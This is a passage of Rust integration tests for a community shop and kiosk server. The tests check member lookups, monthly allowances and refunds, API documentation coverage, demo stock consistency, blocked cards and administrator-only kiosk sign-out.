    let m = json(member("kiosk").await).await;
    assert_eq!(m["holder"]["user_id"], user_id);
    assert_eq!(m["holder"]["balance"], 2000);
    assert_eq!(m["month_taken"], json!([]));

    let buy = |key: &str| {
        json!({"qr": qr, "idempotency_key": key,
               "lines": [{"item_id": d["id"], "quantity": 1}, {"item_id": s["id"], "quantity": 3}]})
    };
    assert_eq!(checkout(&app, &k, &buy("m1")).await.status(), 201);
    let second = json(checkout(&app, &k, &buy("m2")).await).await;
    // Only the limited item is listed.
    let m = json(member("kiosk").await).await;
    assert_eq!(
        m["month_taken"],
        json!([{"item_id": d["id"], "quantity": 2}])
    );
    // A refund gives the allowance back.
    let refund = format!("/api/v1/admin/shop/orders/{}/refund", second["order_id"]);
    let r = app
        .post(&admin.client, &refund, &json!({"reason": "退货"}))
        .await;
    assert_eq!(r.status(), 200);
    let m = json(member("admin").await).await;
    assert_eq!(
        m["month_taken"],
        json!([{"item_id": d["id"], "quantity": 1}])
    );

    let r = app.post(&li.client, "/api/v1/kiosk/member", &ask).await;
    assert_error(r, 403, "forbidden").await;
    let anon = TestApp::new_client();
    let r = app
        .post(&anon, "/api/v1/kiosk/member", &json!({"qr": qr}))
        .await;
    assert_error(r, 401, "unauthenticated").await;
    // A number without its PIN, or a forged token, is refused like at the checkout.
    let number = app
        .db
        .write(move |tx| Ok(cards::card_of(tx, user_id, now())?.number))
        .await
        .unwrap();
    let r = app
        .post(
            &k.client,
            "/api/v1/kiosk/member",
            &json!({"card_number": number}),
        )
        .await;
    assert_error(r, 422, "validation").await;
    let forged = format!("{}x", qr);
    let r = app
        .post(&k.client, "/api/v1/kiosk/member", &json!({"qr": forged}))
        .await;
    assert_eq!(r.status(), 422);
}

/// Every shop endpoint is in the OpenAPI document.
#[tokio::test]
async fn every_shop_endpoint_is_in_the_openapi_document() {
    let app = TestApp::spawn().await;
    let doc = json(app.get(&app.client, "/api/v1/openapi.json").await).await;
    let paths = doc["paths"].as_object().unwrap();
    for (m, p) in [
        ("get", "/api/v1/shop/items"),
        ("get", "/api/v1/shop/items/{id}"),
        ("get", "/api/v1/shop/categories"),
        ("get", "/api/v1/shop/barcode/{code}"),
        ("get", "/api/v1/shop/photos/{file}"),
        ("get", "/api/v1/shop/honour-roll"),
        ("get", "/api/v1/me/shop/orders"),
        ("get", "/api/v1/me/shop/orders/{id}"),
        ("get", "/api/v1/me/shop/month-taken"),
        ("post", "/api/v1/kiosk/checkout"),
        ("post", "/api/v1/kiosk/member"),
        ("get", "/api/v1/admin/shop/items"),
        ("post", "/api/v1/admin/shop/items"),
        ("patch", "/api/v1/admin/shop/items/{id}"),
        ("post", "/api/v1/admin/shop/items/{id}/photos"),
        ("post", "/api/v1/admin/shop/items/bulk"),
        ("get", "/api/v1/admin/shop/donors"),
        ("post", "/api/v1/admin/shop/donors"),
        ("post", "/api/v1/admin/shop/stock-in"),
        ("post", "/api/v1/admin/shop/adjustments"),
        ("get", "/api/v1/admin/shop/stock-events"),
        ("get", "/api/v1/admin/shop/low-stock"),
        ("post", "/api/v1/admin/shop/counts"),
        ("get", "/api/v1/admin/shop/orders"),
        ("get", "/api/v1/admin/shop/orders/{id}"),
        ("post", "/api/v1/admin/shop/orders/{id}/refund"),
        ("get", "/api/v1/admin/shop/summary"),
    ] {
        assert!(
            paths.get(p).and_then(|i| i.get(m)).is_some(),
            "{m} {p} missing"
        );
    }
}

/// The demo community's shop has the reports' prices, donors on the honour roll and stock
/// that matches its events.
#[tokio::test]
async fn the_demo_shop_has_the_reports_prices_and_donors() {
    let app = TestApp::spawn_with(|c| c.seed = linli_server::config::Seed::Demo).await;
    let page = json(app.get(&app.client, "/api/v1/shop/items?limit=100").await).await;
    let price = |name: &str| {
        page["items"]
            .as_array()
            .unwrap()
            .iter()
            .find(|i| i["name"] == name)
            .map(|i| i["price"].as_i64().unwrap())
    };
    assert_eq!(price("洗衣液"), Some(230));
    assert_eq!(price("书包"), Some(260));
    assert_eq!(price("香皂"), Some(30));
    let roll = json(app.get(&app.client, "/api/v1/shop/honour-roll").await).await;
    assert!(roll.as_array().unwrap().len() >= 4);
    let mismatched = app
        .db
        .read(|c| {
            Ok(c.query_row(
                "SELECT COUNT(*) FROM shop_items i WHERE stock <>
                 (SELECT COALESCE(SUM(delta), 0) FROM shop_stock_events e WHERE e.item_id = i.id)",
                [],
                |r| r.get::<_, i64>(0),
            )?)
        })
        .await
        .unwrap();
    assert_eq!(
        mismatched, 0,
        "every unit of stock is explained by an event"
    );
    books_balance(&app).await;
}

/// A card blocked after the kiosk verified it, but before the checkout's transaction, is
/// still refused there, and nothing moves.
#[tokio::test]
async fn a_card_blocked_mid_checkout_is_refused_inside_the_transaction() {
    use linli_app::api::cards::{CardHolder, CardProof};
    use linli_app::api::shop::CartLine;
    use linli_server::shop::checkout::{self as co, Cart};

    let app = TestApp::spawn().await;
    let admin = app.login_as_admin().await;
    let s = item(&app, &admin, soap(), 3).await;
    let (uid, _) = member_with_token(&app, &admin, "吴静", 100).await;
    let item_id = s["id"].as_i64().unwrap();
    let admin_id = admin.id;
    let err = app
        .db
        .write(move |tx| {
            let card = cards::card_of(tx, uid, now())?;
            let holder = CardHolder {
                user_id: uid,
                name: "吴静".into(),
                phone: String::new(),
                balance: 100,
                card_number: card.number.clone(),
                proof: CardProof::Pin,
            };
            cards::change(tx, admin_id, uid, cards::CardAction::Block, "挂失", now())?;
            let cart = Cart::parse(&[CartLine {
                item_id,
                quantity: 1,
            }])?;
            let fp = co::checkout_fingerprint(&card.number, &cart);
            Ok(co::checkout(tx, admin_id, &holder, &cart, "k", &fp, now()).is_err())
        })
        .await
        .unwrap();
    assert!(err);
    assert_eq!(stock_of(&app, &s["id"]).await, 3);
    assert_eq!(balance_of(&app, uid).await, 100);
}

/// Sets a person's card PIN and answers their card number.
async fn pin_and_number(app: &TestApp, p: &Person, pin: &str) -> String {
    let resp = p
        .client
        .put(app.url("/api/v1/me/card/pin"))
        .json(&json!({"pin": pin, "password": PASSWORD}))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200, "{}", resp.text().await.unwrap());
    json(app.get(&p.client, "/api/v1/me/card").await).await["number"]
        .as_str()
        .unwrap()
        .to_string()
}

/// An unattended kiosk is not signed out by a customer: the plain sign-out is refused
/// (403, in words), and `/kiosk/sign-out` needs an administrator's card with its PIN. A
/// member's card is refused even with the right PIN, a wrong PIN says how many tries are
/// left, and residents may not call it at all. The sign-out is audited.
#[tokio::test]
async fn a_kiosk_signs_out_only_with_an_administrators_card_and_pin() {
    let app = TestApp::spawn().await;
    let admin = app.login_as_admin().await;
    let k = kiosk(&app).await;
    let li = app.resident("李梅").await;
    let admin_card = pin_and_number(&app, &admin, "1357").await;
    let li_card = pin_and_number(&app, &li, "2468").await;

    let body = assert_error(
        app.post(&k.client, "/api/v1/auth/logout", &json!({})).await,
        403,
        "forbidden",
    )
    .await;
    assert_eq!(
        body["error"]["message"],
        "超市终端需要管理员刷卡并输入卡片密码才能退出"
    );
    let sign_out = |client: &reqwest::Client, number: &str, pin: &str| {
        let req = client
            .post(app.url("/api/v1/kiosk/sign-out"))
            .json(&json!({"card_number": number, "pin": pin}));
        async move { req.send().await.unwrap() }
    };
    // Residents are not kiosks.
    assert_error(
        sign_out(&li.client, &admin_card, "1357").await,
        403,
        "forbidden",
    )
    .await;
    // A member's own card and PIN do not unlock the kiosk.
    let body = assert_error(
        sign_out(&k.client, &li_card, "2468").await,
        403,
        "forbidden",
    )
    .await;
    assert_eq!(
        body["error"]["message"],
        "这张卡不是管理员的卡，超市终端不能退出"
    );
    // A wrong PIN counts against the administrator's card, in words.
    let body = assert_error(
        sign_out(&k.client, &admin_card, "0000").await,
        422,
        "validation",
    )
    .await;
    assert_eq!(body["error"]["message"], "卡片密码不正确，还可以再试四次");
    assert_eq!(app.get(&k.client, "/api/v1/me").await.status(), 200);

    let resp = sign_out(&k.client, &admin_card, "1357").await;
    assert_eq!(resp.status(), 204);
    assert_eq!(app.get(&k.client, "/api/v1/me").await.status(), 401);
    let audit = json(
        app.get(&admin.client, "/api/v1/admin/audit?action=kiosk.sign_out")
            .await,
    )
    .await;
    let entries = audit["items"].as_array().unwrap();
    assert!(
        entries
            .iter()
            .any(|e| e["action"] == "kiosk.sign_out" && e["actor_id"] == admin.id),
        "{audit}"
    );
}
